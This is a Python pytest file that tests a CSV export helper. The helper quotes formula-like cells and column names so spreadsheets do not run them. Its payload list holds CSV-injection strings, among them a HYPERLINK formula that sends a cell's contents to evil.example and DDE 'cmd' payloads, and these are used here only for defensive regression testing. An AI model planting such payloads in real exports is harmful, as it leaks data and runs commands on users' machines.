"""CSV exports: formula-like text is quoted for spreadsheets, everything else survives."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pandas as pd
import pytest

from seqrec_core.report.csv_export import csv_bytes

PACKAGE = Path(__file__).resolve().parents[2] / "seqrec_core"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _read_back(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_come_back_quoted(payload: str) -> None:
    """Regression: exported cells such as `=HYPERLINK(...)` or `@SUM(1+1)` reached the
    analyst's spreadsheet as live formulas (OWASP CSV injection)."""
    frame = pd.DataFrame({"title": [payload, "Garden hose"], "rank": [1, 2]})
    back = _read_back(csv_bytes(frame))
    assert back["title"].tolist() == ["'" + payload, "Garden hose"]


def test_column_names_are_neutralised_too() -> None:
    frame = pd.DataFrame({"=1+1": ["x"], "@user": ["y"], "item": ["z"]})
    assert list(_read_back(csv_bytes(frame)).columns) == ["'=1+1", "'@user", "item"]


def test_normal_text_numbers_and_missing_values_are_unchanged() -> None:
    frame = pd.DataFrame(
        {
            "item_id": pd.Series(["i01", "Lamp - Pro", None], dtype="string"),
            "score": [-1.5, 0.25, 3.0],
            "delta": [-3, 0, 7],
            "category": pd.Categorical(["Home > Tools", "-Sale", "Home > Tools"]),
            "mixed": ["ok", -2, "=bad"],
        }
    )
    back = pd.read_csv(io.BytesIO(csv_bytes(frame)))
    assert back["item_id"].fillna("").tolist() == ["i01", "Lamp - Pro", ""]
    assert back["score"].tolist() == [-1.5, 0.25, 3.0]
    assert back["delta"].tolist() == [-3, 0, 7]
    assert back["category"].tolist() == ["Home > Tools", "'-Sale", "Home > Tools"]
    assert back["mixed"].tolist() == ["ok", "-2", "'=bad"]  # the number -2 stays unquoted
    assert frame["mixed"].tolist() == ["ok", -2, "=bad"]  # the caller's frame is not touched


def test_every_csv_written_by_seqrec_core_goes_through_csv_bytes() -> None:
    """Regression: the download buttons called `DataFrame.to_csv` directly, so none of
    them neutralised formulas."""
    direct = [
        f"{path.relative_to(PACKAGE)}:{number}"
        for path in PACKAGE.rglob("*.py")
        if path.name != "csv_export.py"
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if re.search(r"\.to_csv\(", line)
    ]
    assert direct == []
